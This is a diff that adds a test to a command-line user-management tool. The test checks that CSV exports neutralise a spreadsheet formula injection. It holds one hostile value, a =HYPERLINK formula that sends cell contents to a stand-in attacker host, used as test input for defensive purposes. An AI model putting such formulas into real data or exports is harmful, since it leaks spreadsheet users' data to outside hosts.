@@ -64,6 +64,16 @@ async def test_the_first_owner_and_the_account_lifecycle_from_the_shell(pg_dsn: 
         await superuser.close()
 
 
+def test_csv_at_the_shell_never_hands_a_spreadsheet_a_formula(pg_dsn: str) -> None:
+    hostile = '=HYPERLINK("http://attacker.example/?leak="&A1,"open")'
+    added = windhash(pg_dsn, "users", "add", "eve@example.com", "--role", "user", "--name", hostile)
+    assert added.returncode == 0, added.stderr
+    listed = {row["email"]: row for row in rows(windhash(pg_dsn, "users", "list", "--csv").stdout)}
+    assert listed["eve@example.com"]["name"] == "'" + hostile  # shown as text, never run (OWASP)
+    trail = rows(windhash(pg_dsn, "audit", "log", "--csv", "--action", "user.create").stdout)
+    assert trail and not any(cell.startswith("=") for row in trail for cell in row.values())
+
+
 async def test_a_model_added_at_the_shell_is_in_the_audit_trail(pg_dsn: str) -> None:
     added = windhash(
         pg_dsn,
